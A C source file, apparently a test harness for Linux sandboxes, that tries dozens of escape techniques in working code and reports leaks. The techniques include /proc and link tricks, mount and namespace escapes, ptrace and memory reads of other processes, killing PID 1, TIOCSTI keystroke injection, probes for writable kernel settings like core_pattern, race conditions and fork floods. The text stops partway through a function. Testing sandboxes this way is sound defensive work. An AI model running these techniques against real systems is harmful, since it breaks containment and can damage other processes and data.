// Ways out of a sandbox: `escapes NAME SECRET OUTSIDE VICTIM SOCKET`, in a directory that may be read and written.
//   SECRET   a file that may not be read        OUTSIDE  a directory that may not be changed
//   VICTIM   a process outside of the box       SOCKET   the abstract name of a server that offers a descriptor of SECRET
// Each writes to its standard output what it could read of the secret. That nothing outside has changed, that nobody has
// died and that it ends is looked at by who has started it. Without a name it lists them all.
//
// The cases are those of landlock(7), seccomp_unotify(2), namespaces(7) and of what the suites of landrun, bubblewrap,
// syd and Anthropic's sandbox-runtime try.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/limits.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static const char *secret, *outside, *server;
static pid_t victim;
static volatile int racing = 1;
// Bytes of the shared memory that the victim has.
enum { SHARED = 64 };

// Writes out what can be read of the descriptor.
static void show(int file) {
  char bytes[4096];
  ssize_t count;
  if (file < 0) return;
  while ((count = pread(file, bytes, sizeof bytes, 0)) > 0) {
    if (write(1, bytes, (size_t)count) < 0) break;
    break;
  }
  close(file);
}

static void show_path(const char *path) { show(open(path, O_RDONLY)); }

static void show_at(int directory, const char *path) { show(openat(directory, path, O_RDONLY)); }

static const char *in(const char *directory, const char *name) {
  static char path[PATH_MAX];
  snprintf(path, sizeof path, "%s/%s", directory, name);
  return path;
}

static const char *of_process(pid_t process, const char *what) {
  static char path[PATH_MAX];
  snprintf(path, sizeof path, "/proc/%d/%s", process, what);
  return path;
}

// Names.

static void plain(void) { show_path(secret); }

static void relative(void) {
  char path[PATH_MAX] = "";
  for (int i = 0; i < 40; i++) strcat(path, "../");
  show_path(strcat(path, secret));
}

static void symbolic_link(void) {
  if (symlink(secret, "symlink") == 0) show_path("symlink");
}

static void hard_link(void) {
  if (link(secret, "hardlink") == 0) show_path("hardlink");
  linkat(AT_FDCWD, secret, AT_FDCWD, "hardlink2", AT_SYMLINK_FOLLOW);
  show_path("hardlink2");
  int file = open(secret, O_PATH);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  linkat(AT_FDCWD, path, AT_FDCWD, "hardlink3", AT_SYMLINK_FOLLOW);
  show_path("hardlink3");
}

static void moved_out(void) {
  if (rename(secret, "moved") == 0) show_path("moved"), rename("moved", secret);
}

static void exchanged(void) {
  close(open("bait", O_CREAT | O_WRONLY, 0644));
  if (renameat2(AT_FDCWD, secret, AT_FDCWD, "bait", 2 /* RENAME_EXCHANGE */) < 0) return;
  show_path("bait");
  renameat2(AT_FDCWD, secret, AT_FDCWD, "bait", 2);
}

static void parent_moved(void) {
  char parent[PATH_MAX];
  strcpy(parent, secret);
  char *slash = strrchr(parent, '/');
  *slash = 0;
  if (rename(parent, "parent") == 0) show_path(in("parent", slash + 1)), rename("parent", parent);
}

static void path_descriptor(void) {
  int file = open(secret, O_PATH);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  show_path(path);
  show_at(file, "");
}

static void directory_descriptor(void) {
  int directory = open("/", O_PATH | O_DIRECTORY);
  show_at(directory, secret + 1);
  fchdir(directory);
  show_path(secret + 1);
}

static void inherited(void) {
  for (int file = 3; file < 1024; file++) show_at(file, secret), show_at(file, secret + 1), show(dup(file));
}

static void by_proc(void) {
  static const char *const ways[] = {"self/root", "thread-self/root", "self/cwd/../../../../../..", "1/root", "2/root"};
  char path[PATH_MAX];
  for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
    snprintf(path, sizeof path, "/proc/%s%s", ways[i], secret);
    show_path(path);
  }
  for (pid_t process = 1; process < 400; process++) {
    snprintf(path, sizeof path, "%s%s", of_process(process, "root"), secret);
    show_path(path);
  }
}

static void by_child(void) {
  pid_t child = fork();
  if (child == 0) pause();
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s%s", of_process(child, "root"), secret);
  show_path(path);
  kill(child, SIGKILL);
}

static void by_victim(void) {
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s%s", of_process(victim, "root"), secret);
  show_path(path);
  show_path(of_process(victim, "fd/3"));
  show_path(of_process(victim, "environ"));
  show_path(of_process(victim, "mem"));
}

static void by_handle(void) {
  struct {
    struct file_handle handle;
    char bytes[128];
  } handle = {.handle.handle_bytes = 128};
  int id;
  if (name_to_handle_at(AT_FDCWD, secret, &handle.handle, &id, 0) < 0) return;
  int here = open(".", O_RDONLY);
  show(open_by_handle_at(here, &handle.handle, O_RDONLY));
}

static void raw_disk(void) {
  static const char *const disks[] = {"/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/loop0"};
  for (size_t i = 0; i < sizeof disks / sizeof *disks; i++) {
    int disk = open(disks[i], O_RDONLY);
    if (disk >= 0) dprintf(1, "LEAK: %s can be read\n", disks[i]);
  }
  struct stat status;
  if (stat(secret, &status) == 0 && mknod("disk", S_IFBLK | 0600, status.st_dev) == 0 && open("disk", O_RDONLY) >= 0) {
    dprintf(1, "LEAK: a disk of its own can be read\n");
  }
}

static void other_opens(void) {
  struct {
    uint64_t flags, mode, resolve;
  } how = {.flags = O_RDONLY};
  show((int)syscall(SYS_openat2, AT_FDCWD, secret, &how, sizeof how));
  show(open(secret, O_RDWR));
  show(open(secret, O_RDONLY | O_NOFOLLOW));
  show(open(secret, O_RDONLY | O_ASYNC | O_LARGEFILE));
  show((int)syscall(SYS_open, secret, O_RDONLY));
  int file = open(secret, O_PATH);
  sendfile(1, file, NULL, 4096);
  copy_file_range(file, NULL, open("copy", O_CREAT | O_RDWR, 0644), NULL, 4096, 0);
  show_path("copy");
  char bytes[4096];
  ssize_t count = readlink(secret, bytes, sizeof bytes);
  if (count > 0 && write(1, bytes, (size_t)count) < 0) return;
  count = getxattr(secret, "user.secret", bytes, sizeof bytes);
  if (count > 0 && write(1, bytes, (size_t)count) < 0) return;
  void *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, open(secret, O_RDONLY), 0);
  if (map != MAP_FAILED && write(1, map, 16) < 0) return;
}

// Mounts and namespaces.

static void bind_mount(void) {
  mkdir("mount", 0755);
  char parent[PATH_MAX];
  strcpy(parent, secret);
  char *slash = strrchr(parent, '/');
  *slash = 0;
  if (mount(parent, "mount", NULL, MS_BIND, NULL) == 0) show_path(in("mount", slash + 1));
}

static void uncovered(void) {
  umount2(secret, MNT_DETACH);
  show_path(secret);
  char parent[PATH_MAX];
  strcpy(parent, secret);
  *strrchr(parent, '/') = 0;
  umount2(parent, MNT_DETACH);
  show_path(secret);
}

static void overlay(void) {
  char options[3 * PATH_MAX], parent[PATH_MAX];
  strcpy(parent, secret);
  char *slash = strrchr(parent, '/');
  *slash = 0;
  mkdir("upper", 0755), mkdir("work", 0755), mkdir("merged", 0755);
  snprintf(options, sizeof options, "lowerdir=%s,upperdir=upper,workdir=work", parent);
  if (mount("none", "merged", "overlay", 0, options) == 0) show_path(in("merged", slash + 1));
}

static void pivot(void) {
  mkdir("root", 0755), mkdir("root/old", 0755);
  mount("root", "root", NULL, MS_BIND, NULL);
  if (syscall(SYS_pivot_root, "root", "root/old") == 0) show_path(in("/old", secret + 1));
}

static void change_root(void) {
  mkdir("jail", 0755);
  int top = open("/", O_RDONLY);
  if (chroot("jail") < 0) return;
  fchdir(top);
  chroot(".");
  show_path(secret);
}

static void tree(void) {
  int clone = (int)syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */ | AT_RECURSIVE);
  show_at(clone, secret + 1);
}

static void new_mount_api(void) {
  int context = (int)syscall(SYS_fsopen, "tmpfs", 0);
  if (context >= 0) dprintf(1, "LEAK: a file system can be made\n");
  int picked = (int)syscall(SYS_fspick, AT_FDCWD, "/", 0);
  if (picked >= 0) dprintf(1, "LEAK: a file system can be picked\n");
}

static void namespaces(void) {
  static const int kinds[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET};
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
    if (unshare(kinds[i]) == 0) dprintf(1, "LEAK: unshare %x\n", (unsigned)kinds[i]);
    long child = syscall(SYS_clone, kinds[i] | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    if (child > 0) dprintf(1, "LEAK: clone %x\n", (unsigned)kinds[i]);
  }
  uint64_t arguments[11] = {CLONE_NEWUSER};
  arguments[4] = SIGCHLD;
  long child = syscall(SYS_clone3, arguments, sizeof arguments);
  if (child == 0) _exit(0);
  if (child > 0) dprintf(1, "LEAK: clone3\n");
  uncovered();
}

static void joined(void) {
  static const char *const kinds[] = {"ns/mnt", "ns/pid", "ns/user", "ns/net"};
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
    if (setns(open(of_process(1, kinds[i]), O_RDONLY), 0) == 0) dprintf(1, "LEAK: setns %s\n", kinds[i]);
    if (setns(open(of_process(victim, kinds[i]), O_RDONLY), 0) == 0) dprintf(1, "LEAK: setns %s\n", kinds[i]);
  }
}

// Other processes.

static void traced(void) {
  if (ptrace(PTRACE_SEIZE, victim, NULL, NULL) == 0) {
    dprintf(1, "LEAK: a process outside is traced\n");
    ptrace(PTRACE_DETACH, victim, NULL, NULL);
  }
  for (pid_t process = 1; process < 3; process++) {
    if (process != getpid() && ptrace(PTRACE_SEIZE, process, NULL, NULL) == 0) {
      dprintf(1, "LEAK: process %d is traced\n", process);
    }
  }
}

static void foreign_memory(void) {
  char bytes[16];
  struct iovec local = {bytes, sizeof bytes}, remote = {bytes, sizeof bytes};
  pid_t processes[] = {1, victim};
  for (int i = 0; i < 2; i++) {
    errno = 0;
    if (process_vm_readv(processes[i], &local, 1, &remote, 1, 0) > 0 || errno == EFAULT) {
      dprintf(1, "LEAK: memory of process %d\n", processes[i]);
    }
  }
}

static void stolen_descriptor(void) {
  pid_t processes[] = {1, victim};
  for (int i = 0; i < 2; i++) {
    int process = (int)syscall(SYS_pidfd_open, processes[i], 0);
    for (int file = 0; file < 64; file++) {
      int stolen = (int)syscall(SYS_pidfd_getfd, process, file, 0);
      if (stolen >= 0) dprintf(1, "LEAK: descriptor %d of process %d\n", file, processes[i]);
    }
  }
}

static void signals(void) {
  kill(victim, SIGKILL);
  kill(1, SIGKILL);
  kill(1, SIGSTOP);
  kill(getppid(), SIGKILL);
  syscall(SYS_tgkill, victim, victim, SIGKILL);
  syscall(SYS_pidfd_send_signal, syscall(SYS_pidfd_open, victim, 0), SIGKILL, NULL, 0);
  // Everybody else: init does not hear it.
  kill(-1, SIGCONT);
  // The owner of a descriptor is told by a signal.
  int ends[2];
  if (pipe(ends) == 0) {
    fcntl(ends[0], F_SETOWN, victim);
    fcntl(ends[0], F_SETSIG, SIGKILL);
    fcntl(ends[0], F_SETFL, O_ASYNC);
    if (write(ends[1], "x", 1) < 0) return;
  }
}

static void passed_descriptor(void) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path + 1, server, sizeof address.sun_path - 2);
  socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(server));
  for (int type = SOCK_STREAM; type <= SOCK_SEQPACKET; type++) {
    int connection = socket(AF_UNIX, type, 0);
    if (connect(connection, (struct sockaddr *)&address, length) == 0) {
      char bytes[4096];
      ssize_t count = read(connection, bytes, sizeof bytes);
      if (count > 0 && write(1, bytes, (size_t)count) < 0) return;
    }
    int pair[2];
    if (socketpair(AF_UNIX, type, 0, pair) == 0 && sendto(pair[0], "x", 1, 0, (struct sockaddr *)&address, length) == 1 &&
        type == SOCK_DGRAM) {
      dprintf(1, "LEAK: a datagram leaves\n");
    }
  }
}

static void shared_memory(void) {
  // By their numbers, whatever their keys are.
  for (int index = 0; index < 1000; index++) {
    struct shmid_ds status;
    void *bytes = shmat(shmctl(index, SHM_STAT, &status), NULL, SHM_RDONLY);
    if (bytes != (void *)-1 && write(1, bytes, status.shm_segsz < SHARED ? status.shm_segsz : SHARED) < 0) return;
  }
}

static volatile int own = -1;

static void *report_itself(void *unused) {
  (void)unused;
  struct sock_filter program[] = {BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0), BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
                                  BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF), BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
  struct sock_fprog filter = {.len = sizeof program / sizeof *program, .filter = program};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  own = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &filter);
  show_path(secret);
  racing = 0;
  return NULL;
}

// Two filters report the same call, and the one inside lets it go on: is the one outside heard?
static void own_listener(void) {
  pthread_t other;
  pthread_create(&other, NULL, report_itself, NULL);
  while (racing) {
    struct seccomp_notif call = {0};
    struct pollfd ready = {.fd = own, .events = POLLIN};
    if (poll(&ready, 1, 10) <= 0 || ioctl(own, SECCOMP_IOCTL_NOTIF_RECV, &call) < 0) continue;
    struct seccomp_notif_resp answer = {.id = call.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
    ioctl(own, SECCOMP_IOCTL_NOTIF_SEND, &answer);
  }
  pthread_join(other, NULL);
}

// Execution.

static void try_exec(const char *file, char *const argv[]) {
  if (fork() == 0) {
    execv(file, argv);
    _exit(0);
  }
  wait(NULL);
}

static void executed(void) {
  char *const argv[] = {(char *)secret, NULL};
  try_exec(secret, argv);
  if (fork() == 0) {
    execveat(open(secret, O_PATH), "", argv, environ, AT_EMPTY_PATH);
    _exit(0);
  }
  wait(NULL);
}

static void interpreted(void) {
  // The kernel opens what stands behind #!; bash and others what they are told.
  int script = open("script", O_CREAT | O_WRONLY | O_TRUNC, 0755);
  dprintf(script, "#!/bin/cat %s\n", secret);
  close(script);
  char *const argv[] = {"./script", NULL};
  try_exec("./script", argv);
  script = open("script2", O_CREAT | O_WRONLY | O_TRUNC, 0755);
  dprintf(script, "#!%s\n", secret);
  close(script);
  char *const argv2[] = {"./script2", NULL};
  try_exec("./script2", argv2);
}

static void by_loader(void) {
  char *const argv[] = {"ld.so", "/bin/cat", (char *)secret, NULL};
  try_exec("/lib64/ld-linux-x86-64.so.2", argv);
}

static void from_memory(void) {
  int cat = open("/bin/cat", O_RDONLY), copy = memfd_create("cat", 0);
  while (sendfile(copy, cat, NULL, 1 << 20) > 0) {}
  char *const argv[] = {"cat", (char *)secret, NULL};
  if (fork() == 0) {
    execveat(copy, "", argv, environ, AT_EMPTY_PATH);
    _exit(0);
  }
  wait(NULL);
}

static void privileged(void) {
  char *const su[] = {"su", "-c", "cat /etc/shadow", NULL}, *const mount[] = {"mount", "--bind", "/", "/mnt", NULL};
  try_exec("/bin/su", su);
  try_exec("/bin/mount", mount);
  if (setuid(0) == 0 && geteuid() != getuid()) dprintf(1, "LEAK: user 0\n");
}

// The kernel.

static int write_to(const char *path, const char *text) {
  int file = open(path, O_WRONLY);
  if (file < 0) return 0;
  ssize_t count = write(file, text, strlen(text));
  close(file);
  return count > 0;
}

static void kernel_settings(void) {
  static const char *const files[] = {
      "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
      "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs",
      "/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/overcommit_memory"};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    if (open(files[i], O_WRONLY) >= 0) dprintf(1, "LEAK: %s can be written\n", files[i]);
  }
  if (write_to("/proc/self/uid_map", "0 0 1")) dprintf(1, "LEAK: a user map can be written\n");
}

static void terminal(void) {
  char byte = 'x';
  for (int file = 0; file < 3; file++) {
    if (ioctl(file, TIOCSTI, &byte) == 0) dprintf(1, "LEAK: TIOCSTI\n");
    if (syscall(SYS_ioctl, file, 0xffffffff00000000 | TIOCSTI, &byte) == 0) dprintf(1, "LEAK: TIOCSTI\n");
    byte = 3;
    if (ioctl(file, TIOCLINUX, &byte) == 0) dprintf(1, "LEAK: TIOCLINUX\n");
  }
  int terminal = open("/dev/tty", O_RDWR);
  if (ioctl(terminal, TIOCSTI, &byte) == 0) dprintf(1, "LEAK: TIOCSTI\n");
}

static void strange_calls(void) {
  static const struct {
    long number;
    const char *name;
  } calls[] = {{SYS_bpf, "bpf"}, {SYS_userfaultfd, "userfaultfd"}, {SYS_io_uring_setup, "io_uring_setup"},
               {SYS_perf_event_open, "perf_event_open"}, {SYS_keyctl, "keyctl"}, {SYS_add_key, "add_key"},
               {SYS_kexec_load, "kexec_load"}, {SYS_init_module, "init_module"}, {SYS_swapon, "swapon"},
               {SYS_reboot, "reboot"}, {SYS_acct, "acct"}, {SYS_fanotify_init, "fanotify_init"},
               {SYS_mount_setattr, "mount_setattr"}, {SYS_move_mount, "move_mount"}, {SYS_setns, "setns"}};
  for (size_t i = 0; i < sizeof calls / sizeof *calls; i++) {
    long result = syscall(calls[i].number, 0, 0, 0, 0, 0, 0);
    if (result >= 0 || (errno != EPERM && errno != ENOSYS)) dprintf(1, "LEAK: %s gets through\n", calls[i].name);
  }
}

// Races.

#ifndef TRIES
enum { TRIES = 100000 };
#endif
static char raced[PATH_MAX];

static void *rewrite(void *unused) {
  (void)unused;
  char allowed[PATH_MAX] = "bait";
  while (racing) {
    memcpy(raced, allowed, sizeof "bait");
    memcpy(raced, secret, strlen(secret) + 1);
  }
  return NULL;
}

static void path_race(void) {
  close(open("bait", O_CREAT | O_WRONLY, 0644));
  strcpy(raced, "bait");
  pthread_t other;
  pthread_create(&other, NULL, rewrite, NULL);
  for (int i = 0; i < TRIES; i++) show(open(raced, O_RDONLY));
  racing = 0;
  pthread_join(other, NULL);
}

static void *swap(void *unused) {
  (void)unused;
  while (racing) renameat2(AT_FDCWD, "racing", AT_FDCWD, "other", 2);
  return NULL;
}

static void link_race(void) {
  close(open("racing", O_CREAT | O_WRONLY, 0644));
  if (symlink(secret, "other") < 0) return;
  pthread_t other;
  pthread_create(&other, NULL, swap, NULL);
  for (int i = 0; i < TRIES; i++) show(open("racing", O_RDONLY));
  racing = 0;
  pthread_join(other, NULL);
}

static void fault_race(void) {
  // A path on a page that nobody provides: who reads it sleeps.
  int faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC | 1);
  char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  struct uffdio_api api = {.api = UFFD_API};
  struct uffdio_register range = {.range = {(uintptr_t)page, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
  if (faults < 0 || ioctl(faults, UFFDIO_API, &api) < 0 || ioctl(faults, UFFDIO_REGISTER, &range) < 0) return;
  alarm(2);
  show_path(page);
}

static void *swap_directories(void *unused) {
  (void)unused;
  while (racing) renameat2(AT_FDCWD, "raced_directory", AT_FDCWD, "raced_link", 2);
  return NULL;
}

static void directory_race(void) {
  char parent[PATH_MAX];
  strcpy(parent, secret);
  char *slash = strrchr(parent, '/');
  *slash = 0;
  if (mkdir("raced_directory", 0755) < 0 || symlink(parent, "raced_link") < 0) return;
  close(open(in("raced_directory", slash + 1), O_CREAT | O_WRONLY, 0644));
  char path[PATH_MAX];
  strcpy(path, in("raced_directory", slash + 1));
  pthread_t other;
  pthread_create(&other, NULL, swap_directories, NULL);
  for (int i = 0; i < TRIES; i++) {
    show_path(path);
    if (i % 100 == 0) link(path, "raced_hard_link"), show_path("raced_hard_link"), unlink("raced_hard_link");
  }
  racing = 0;
  pthread_join(other, NULL);
}

// A program that may not be executed: beside the secret. It would show what is in "bait".
static void exec_race(void) {
  char *path = mmap(NULL, PATH_MAX, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0), denied[PATH_MAX];
  strcpy(denied, secret);
  strcpy(strrchr(denied, '/') + 1, "reader");
  int bait = open("bait", O_CREAT | O_WRONLY, 0644);
  dprintf(bait, "LEAK: a program runs that may not be executed\n");
  close(bait);
  pid_t other = fork();
  if (other == 0) {
    for (;;) memcpy(path, "/bin/true\0", 10), memcpy(path, denied, strlen(denied) + 1);
  }
  for (int i = 0; i < TRIES / 100; i++) {
    if (fork() == 0) {
      execl(path, "reader", "bait", NULL);
      _exit(0);
    }
    wait(NULL);
  }
  kill(other, SIGKILL);
}

// Ports of the box's own loopback device, of which a policy allows one.
enum { ALLOWED = 4710, DENIED = 4711 };
static struct sockaddr_in reached = {.sin_family = AF_INET};
static int swapped;

static int server_of(int type, int port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int file = socket(AF_INET, type | SOCK_NONBLOCK, 0);
  if (bind(file, (struct sockaddr *)&address, sizeof address) < 0) return -1;
  if (type == SOCK_STREAM) listen(file, 4096);
  return file;
}

static void *change_port(void *unused) {
  (void)unused;
  while (racing) reached.sin_port = htons(ALLOWED), reached.sin_port = htons(DENIED);
  return NULL;
}

// The number stands for a socket that is connected already, and for a fresh one.
static void *change_socket(void *unused) {
  (void)unused;
  while (racing) {
    int fresh = socket(AF_INET, SOCK_STREAM, 0);
    dup2(fresh, swapped);
    close(fresh);
  }
  return NULL;
}

static void race_for_port(int type, void *(*change)(void *), void (*reach)(int)) {
  int allowed = server_of(type, ALLOWED), denied = server_of(type, DENIED);
  reached.sin_addr.s_addr = htonl(INADDR_LOOPBACK), reached.sin_port = htons(ALLOWED);
  if (denied < 0) return;
  swapped = dup(denied);
  pthread_t threads[2];
  pthread_create(&threads[0], NULL, change_port, NULL);
  if (change != change_port) pthread_create(&threads[1], NULL, change, NULL);
  char bytes[64];
  for (int i = 0; i < TRIES / 10; i++) {
    reach(type);
    if (type == SOCK_DGRAM ? recv(denied, bytes, sizeof bytes, 0) > 0 : accept(denied, NULL, NULL) >= 0) {
      dprintf(1, "LEAK: a port is reached that is denied\n");
      break;
    }
    if (type == SOCK_STREAM) close(accept(allowed, NULL, NULL));
    else recv(allowed, bytes, sizeof bytes, 0);
  }
  racing = 0;
  pthread_join(threads[0], NULL);
  if (change != change_port) pthread_join(threads[1], NULL);
}

static void reach_by_connecting(int type) {
  int file = socket(AF_INET, type, 0);
  connect(file, (struct sockaddr *)&reached, sizeof reached);
  close(file);
}

static void reach_by_swapped(int type) {
  (void)type;
  connect(swapped, (struct sockaddr *)&reached, sizeof reached);
}

static void reach_by_sending(int type) {
  static int file = -1;
  if (file < 0) file = socket(AF_INET, type, 0);
  struct iovec part = {"x", 1};
  struct mmsghdr messages[2] = {{.msg_hdr = {.msg_name = &reached, .msg_namelen = sizeof reached, .msg_iov = &part, .msg_iovlen = 1}}};
  messages[1] = messages[0];
  sendto(file, "x", 1, 0, (struct sockaddr *)&reached, sizeof reached);
  sendmsg(file, &messages[0].msg_hdr, 0);
  sendmmsg(file, messages, 2, 0);
}

static void connect_race(void) { race_for_port(SOCK_STREAM, change_port, reach_by_connecting); }
static void socket_race(void) { race_for_port(SOCK_STREAM, change_socket, reach_by_swapped); }
static void datagram_race(void) { race_for_port(SOCK_DGRAM, change_port, reach_by_sending); }

// The denied port by addresses that are written in other ways.
static void other_addresses(void) {
  int stream = server_of(SOCK_STREAM, DENIED), datagrams = server_of(SOCK_DGRAM, DENIED);
  struct sockaddr_in6 mapped = {.sin6_family = AF_INET6, .sin6_port = htons(DENIED)};
  inet_pton(AF_INET6, "::ffff:127.0.0.1", &mapped.sin6_addr);
  struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(DENIED)}, none = any;
  none.sin_family = AF_UNSPEC, none.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (stream < 0 || datagrams < 0) return;
  connect(socket(AF_INET6, SOCK_STREAM, 0), (struct sockaddr *)&mapped, sizeof mapped);
  connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&any, sizeof any);
  sendto(socket(AF_INET6, SOCK_DGRAM, 0), "x", 1, 0, (struct sockaddr *)&mapped, sizeof mapped);
  sendto(socket(AF_INET, SOCK_DGRAM, 0), "x", 1, 0, (struct sockaddr *)&any, sizeof any);
  sendto(socket(AF_INET, SOCK_DGRAM, 0), "x", 1, 0, (struct sockaddr *)&none, sizeof none);
  sendto(socket(AF_INET, SOCK_STREAM, 0), "x", 1, MSG_FASTOPEN, (struct sockaddr *)&any, sizeof any);
  char byte;
  if (accept(stream, NULL, NULL) >= 0) dprintf(1, "LEAK: a denied port is connected to by another address\n");
  if (recv(datagrams, &byte, 1, 0) > 0) dprintf(1, "LEAK: a denied port gets a datagram by another address\n");
}

// Load, and what is not what it seems.

static void flood(void) {
  for (int i = 0; i < 20000; i++) {
    close(open(secret, O_RDONLY));
    close(socket(AF_INET, SOCK_STREAM, 0));
    kill(1, 0);
  }
  for (int i = 0; i < 300; i++) {
    pid_t child = fork();
    if (child == 0) _exit(0);
    if (child < 0) break;
  }
  while (wait(NULL) > 0) {}
}

static void bad_pointers(void) {
  static const uintptr_t addresses[] = {0, 1, 8, 4095, (uintptr_t)-1, (uintptr_t)-4096, 0x7fffffffffff, 1ul << 47};
  for (size_t i = 0; i < sizeof addresses / sizeof *addresses; i++) {
    const char *bad = (const char *)addresses[i];
    open(bad, O_RDONLY), openat(-1, bad, O_RDONLY), execve(bad, (char *const *)bad, (char *const *)bad);
    syscall(SYS_openat2, AT_FDCWD, bad, bad, 24), connect(0, (const void *)bad, 128), rename(bad, bad);
    syscall(SYS_clone3, bad, 88), mount(bad, bad, bad, 0, bad), syscall(SYS_seccomp, 1, 0, bad);
  }
}

static void long_paths(void) {
  static char path[2 * PATH_MAX];
  for (size_t length = PATH_MAX - 2; length < PATH_MAX + 2; length++) {
    memset(path, '/', length);
    memcpy(path + length - strlen(secret), secret, strlen(secret));
    path[length] = 0;
    show_path(path);
  }
  // Deeper than a path can be.
  for (int i = 0; i < 50 && mkdir(memset(path, 'd', 200), 0755) <= 0; i++) {
    path[200] = 0;
    if (mkdir(path, 0755) < 0 || chdir(path) < 0) break;
  }
  show_path(secret);
}

static void x32_and_32_bit(void) {
  show((int)syscall(0x40000000 | SYS_open, secret, O_RDONLY));
  if (fork() == 0) {
    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    strcpy(low, secret);
    long number = 5, result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(low), "c"(0L) : "memory", "r8", "r9", "r10", "r11");
    show((int)result);
    _exit(0);
  }
  wait(NULL);
}

// Changes.

static void changed(void) {
  chmod(secret, 0777), chown(secret, 65534, 65534), truncate(secret, 1), unlink(secret);
  fchmodat(AT_FDCWD, outside, 0777, 0), lchown(outside, 65534, 65534), utimensat(AT_FDCWD, secret, NULL, 0);
  setxattr(secret, "user.changed", "x", 1, 0), removexattr(secret, "user.secret");
  close(open(in(outside, "new"), O_CREAT | O_WRONLY, 0644));
  mkdir(in(outside, "new"), 0755), mknod(in(outside, "new"), S_IFIFO | 0644, 0), symlink("x", in(outside, "new"));
  close(open("own", O_CREAT | O_WRONLY, 0644));
  link("own", in(outside, "new")), rename("own", in(outside, "new"));
  int unnamed = open(".", O_TMPFILE | O_RDWR, 0644);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", unnamed);
  linkat(AT_FDCWD, path, AT_FDCWD, in(outside, "new"), AT_SYMLINK_FOLLOW);
  linkat(unnamed, "", AT_FDCWD, in(outside, "new"), AT_EMPTY_PATH);
  close(open(outside, O_TMPFILE | O_RDWR, 0644));
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, in(outside, "new"), sizeof address.sun_path - 1);
  bind(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address);
  int file = open(secret, O_PATH);
  fchmod(file, 0777), fchown(file, 65534, 65534);
  syscall(452 /* fchmodat2 */, file, "", 0777, AT_EMPTY_PATH), syscall(452, AT_FDCWD, secret, 0777, 0);
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  chmod(path, 0777), truncate(path, 1);
}

// Not a trick, but whom they are tried on: a process outside with the secret open, and in shared memory, which shows it to
// whoever connects.
static void be_victim(void) {
  int file = open(secret, O_RDONLY);
  char bytes[4096];
  ssize_t count = pread(file, bytes, sizeof bytes, 0);
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path + 1, server, sizeof address.sun_path - 2);
  int shared = shmget(IPC_PRIVATE, SHARED, IPC_CREAT | 0600);
  char *memory = shmat(shared, NULL, 0);
  shmctl(shared, IPC_RMID, NULL); // it goes with this process, and can be attached until then
  if (memory == (char *)-1) exit(1);
  memcpy(memory, bytes, count < SHARED ? (size_t)count : SHARED);
  socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(server));
  int listener = socket(AF_UNIX, SOCK_STREAM, 0);
  if (count < 0 || bind(listener, (struct sockaddr *)&address, length) < 0 || listen(listener, 8) < 0) exit(1);
